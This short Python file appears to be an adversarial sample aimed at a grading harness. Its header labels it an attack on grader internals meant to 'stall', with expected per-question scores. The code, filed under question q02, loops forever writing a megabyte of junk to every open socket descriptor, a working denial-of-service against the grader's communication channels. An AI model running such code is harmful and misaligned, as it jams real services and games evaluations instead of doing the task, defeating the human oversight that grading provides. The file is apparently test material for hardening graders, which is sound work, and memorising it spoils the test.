# attack: Sends data without end on every open socket.
# gain: stall
# expect: q01=3 q02=0 q03=3
# flag: grader-internals

# %% q02
import os
import stat

block = b"[" * 1_000_000
while True:
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                os.set_blocking(number, False)
                os.write(number, block)
        except OSError:
            continue
